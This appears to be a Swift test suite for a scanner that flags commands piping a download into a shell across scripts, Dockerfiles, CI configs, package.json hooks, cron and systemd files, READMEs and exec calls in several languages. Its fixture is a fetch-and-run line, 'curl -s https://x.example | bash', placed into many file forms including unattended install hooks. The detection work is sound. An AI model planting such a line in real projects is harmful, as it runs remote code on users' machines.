import PicketChecks
import PicketModel
import Testing

/// Where commands stand in files.
struct ShellFileCheckTests {
  private func findings(_ text: String, _ path: String) -> [TextFinding] {
    let bytes = Array(text.utf8)
    return ShellFileCheck().judgement(of: bytes.span, at: BytePath(path)).findings
  }

  private static let download = "curl -s https://x.example | bash"

  @Test(
    arguments: [
      ("run.sh", "set -e\nCODE\n", nil), ("tool", "#!/usr/bin/env bash\nCODE\n", nil),
      (".envrc", "CODE", nil), (".husky/pre-commit", "CODE", "unattended"),
      ("Makefile", "all:\n\t@CODE\n", nil), ("Dockerfile", "FROM x\nRUN CODE\n", nil),
      ("Dockerfile", "RUN apt-get update \\\n  # why\n  && CODE\n", nil),
      ("Dockerfile", "RUN <<EOF\nCODE\nEOF\n", nil),
      (".github/workflows/ci.yml", "    steps:\n      - run: CODE\n", "unattended"),
      (
        ".github/workflows/ci.yml",
        "      - run: |\n          ls\n          CODE\n      - uses: x\n", "unattended"
      ),
      (".gitlab-ci.yml", "job:\n  script:\n    - ls\n    - CODE\n", "unattended"),
      (".gitlab-ci.yml", "job:\n  script: 'CODE'\n", "unattended"),
      ("package.json", "{\"name\": \"x\", \"scripts\": {\"test\": \"CODE\"}}", nil),
      ("package.json", "{\"scripts\": {\"postinstall\": \"CODE\"}}", "unattended"),
      ("etc/cron.d/x", "* * * * * root CODE\n", "unattended"),
      ("x.service", "[Service]\nExecStart=/bin/sh -c 'CODE'\n", "unattended"),
      ("README.md", "text\n```sh\nCODE\n```\n", "documentation"),
      ("README.md", "```console\n$ CODE\noutput\n```\n", "documentation"),
      ("a.py", "import os\nos.system(\"CODE\")\n", nil),
      ("a.py", "subprocess.run(f'CODE', check=True, shell=True)\n", nil),
      ("a.js", "execSync(`CODE`)\n", nil),
      ("a.go", "exec.Command(\"sh\", \"-c\", \"CODE\")\n", nil),
      ("a.php", "<?php shell_exec('CODE');\n", nil),
    ] as [(String, String, String?)])
  func `finds commands and their places`(path: String, form: String, variant: String?) throws {
    let text = form.replacing("CODE", with: Self.download)
    let finding = try #require(findings(text, path).first)
    #expect(finding.check == ShellCheck.downloadPipedToInterpreter.rawValue)
    #expect(finding.variant == variant)
    // The place is that of the command which runs what was downloaded.
    let bytes = Array(text.utf8)
    #expect(String(decoding: bytes[finding.range], as: UTF8.self).contains("bash"))
  }

  @Test(arguments: [
    ("run.txt", "CODE\n"), ("README.md", "CODE\n"), ("README.md", "```python\nCODE\n```\n"),
    ("README.md", "```console\n$ ls\nCODE\n```\n"), ("run.sh", "# CODE\n"),
    ("Makefile", "x = CODE\n"), (".github/workflows/ci.yml", "name: CODE\n"),
    ("package.json", "{\"description\": \"CODE\"}"), ("a.py", "print('CODE')\n"),
    ("a.py", "# os.system('CODE')\n"), ("a.py", "subprocess.run('CODE')\n"),
    ("Dockerfile", "LABEL x=\"CODE\"\n"), ("run.sh", "cat <<'E'\nCODE\nE\n"),
  ])
  func `finds none where a shell reads none`(path: String, form: String) {
    #expect(findings(form.replacing("CODE", with: Self.download), path) == [])
  }

  @Test func `takes expressions of a runner for values`() {
    let text = "      - run: rm -rf ${{ runner.temp }}/*\n"
    #expect(findings(text, ".github/workflows/ci.yml") == [])
  }

  @Test func `accepts any bytes under any name`() {
    let bytes = (0..<4_096).map { UInt8(truncatingIfNeeded: $0 &* 31 ^ $0 >> 3) }
    for name in [
      "a.sh", "Makefile", "Dockerfile", ".gitlab-ci.yml", "package.json", "x.md", "a.py",
      "a.service",
    ] {
      _ = ShellFileCheck().judgement(of: bytes.span, at: BytePath(name)).findings
    }
  }
}
